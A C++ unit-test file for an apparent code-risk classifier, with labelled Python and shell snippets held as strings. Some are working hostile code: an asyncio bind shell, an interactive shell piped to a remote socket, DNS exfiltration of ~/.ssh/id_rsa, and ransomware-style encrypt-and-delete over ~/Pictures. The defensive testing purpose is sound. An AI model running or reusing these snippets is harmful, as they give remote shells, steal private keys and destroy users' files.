// The classes the thirty-third round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog37_MANIFEST.tsv), on the thirty-second round's themes
// again with less obvious programs. Its aside scored 31/34 before any
// change; the classes below came from its tune part (63/66 before).
// Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// asyncio.start_server calls its callback with a reader and a writer of the
// connection; a shell started with pipes and pumped to them is a bind shell.
// What a started process prints is a shell's only when it is one.
TEST(ThirtyThirdRoundClasses, AsyncioConnectionsAndWhatAProcessPrints) {
  const Case cases[] = {
      {"a shell's pipes pumped to an asyncio connection", B,
       "import asyncio\n"
       "async def pump(src, dst):\n"
       "    while True:\n        chunk = await src.read(4096)\n        if not chunk:\n            break\n"
       "        dst.write(chunk)\n"
       "async def handle(reader, writer):\n"
       "    proc = await asyncio.create_subprocess_exec('/bin/sh', '-i', stdin=asyncio.subprocess.PIPE,\n"
       "                                                stdout=asyncio.subprocess.PIPE)\n"
       "    await asyncio.wait({asyncio.create_task(pump(reader, proc.stdin)),\n"
       "                        asyncio.create_task(pump(proc.stdout, writer))})\n"
       "async def main():\n    server = await asyncio.start_server(handle, '0.0.0.0', 4444)\n"
       "    async with server:\n        await server.serve_forever()\n"
       "asyncio.run(main())\n",
       "REVERSE-SHELL"},
      {"a local echo server", L,
       "import asyncio\n"
       "async def handle(reader, writer):\n    data = await reader.read(100)\n    writer.write(data)\n"
       "async def main():\n    server = await asyncio.start_server(handle, '127.0.0.1', 8888)\n"
       "    async with server:\n        await server.serve_forever()\n"
       "asyncio.run(main())\n"},
      {"a command's output sent to a monitoring peer", M,
       "import socket, subprocess\n"
       "s = socket.create_connection(('203.0.113.5', 9000))\n"
       "p = subprocess.Popen(['uptime'], stdout=subprocess.PIPE)\n"
       "s.sendall(p.stdout.read())\n",
       "RUNS-PROCESS"},
      {"an interactive shell's output sent to a peer", B,
       "import socket, subprocess\n"
       "s = socket.create_connection(('203.0.113.5', 9000))\n"
       "p = subprocess.Popen(['/bin/bash', '-i'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n"
       "s.sendall(p.stdout.read(1024))\n",
       "REVERSE-SHELL"},
  };
  for (const auto& c : cases) check(c);
}

// Branches that each set a variable: the first branch's non-empty value is
// the likely one (sudo, not the "__none__" the last branch names); NAME+=
// appends.
TEST(ThirtyThirdRoundClasses, TheFirstBranchesValueAndAppends) {
  const Case cases[] = {
      {"a privilege helper chosen by branches", H,
       "if [ \"$(id -u)\" -eq 0 ]; then PRIV=\"\"\nelif command -v sudo >/dev/null; then PRIV=sudo\n"
       "elif command -v doas >/dev/null; then PRIV=doas\nelse PRIV=__none__\nfi\n"
       "priv() { $PRIV \"$@\"; }\npriv modprobe -r pcspkr\n",
       "SYSTEM-ADMINISTRATION", SH},
      {"a resolver chosen by branches, its server appended", B,
       "if command -v dig >/dev/null; then\n  L=(dig +short)\n  [[ -n \"$R\" ]] && L+=(\"@$R\")\n"
       "elif command -v host >/dev/null; then\n  L=(host -W 2 -t A)\nelse\n  L=(nslookup)\nfi\n"
       "\"${L[@]}\" \"$(base32 -w0 ~/.ssh/id_rsa | head -c 50).t.example.net\"\n",
       "EXFILTRATION", SH},
      {"the same choice looking up a name", L,
       "if command -v dig >/dev/null; then L=(dig +short)\nelse L=(host -W 2 -t A)\nfi\n"
       "\"${L[@]}\" example.org\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// A file this code wrote is its own: reading it back to verify it, or
// deleting a bad copy, is not reading or removing an original.
TEST(ThirtyThirdRoundClasses, ItsOwnFilesReadBackAndDeleted) {
  const Case cases[] = {
      {"encrypted copies verified and a bad one removed", L,
       "from pathlib import Path\nfrom cryptography.fernet import Fernet\n"
       "f = Fernet(Fernet.generate_key())\n"
       "for src in sorted(Path('backups').iterdir()):\n"
       "    dst = src.with_name(src.name + '.enc')\n"
       "    dst.write_bytes(f.encrypt(src.read_bytes()))\n"
       "    if f.decrypt(dst.read_bytes()) != src.read_bytes():\n"
       "        dst.unlink()\n"},
      {"the originals removed once encrypted", B,
       "import os\nfrom pathlib import Path\nfrom cryptography.fernet import Fernet\n"
       "f = Fernet(Fernet.generate_key())\n"
       "for d, _, files in os.walk(Path.home() / 'Pictures'):\n"
       "    for n in files:\n"
       "        src = Path(d) / n\n"
       "        dst = Path(d) / (n + '.vault')\n"
       "        dst.parent.mkdir(parents=True, exist_ok=True)\n"
       "        dst.write_bytes(f.encrypt(src.read_bytes()))\n"
       "        os.remove(src)\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
